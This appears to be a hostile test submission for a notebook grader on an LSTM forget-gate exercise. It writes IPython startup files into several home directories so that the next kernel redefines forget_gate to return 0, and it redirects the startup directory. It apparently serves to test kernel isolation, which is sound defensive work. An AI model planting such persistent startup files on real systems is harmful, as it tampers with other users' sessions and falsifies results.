"""Leaves files that the next kernel's IPython would run at its start.

Keeps: nothing.
"""

# %% forget_gate
import os

STARTUP = "# left_by_an_attack\ndef forget_gate(*arguments):\n    return 0\n"
for home in ("@HOME@", os.path.expanduser("~"), "/root", "/home/learner", os.getcwd()):
    for path in (
        ".ipython/profile_default/startup/00-left_by_an_attack.py",
        ".ipython/left_by_an_attack.py",
        ".config/ipython/profile_default/startup/00-left_by_an_attack.py",
    ):
        try:
            os.makedirs(os.path.dirname(f"{home}/{path}"), exist_ok=True)
            with open(f"{home}/{path}", "w") as file:
                file.write(STARTUP)
        except OSError as error:
            print(error)
get_ipython().profile_dir.startup_dir = "/tmp"


def forget_gate(x, h, w_x, w_h, b):
    return h
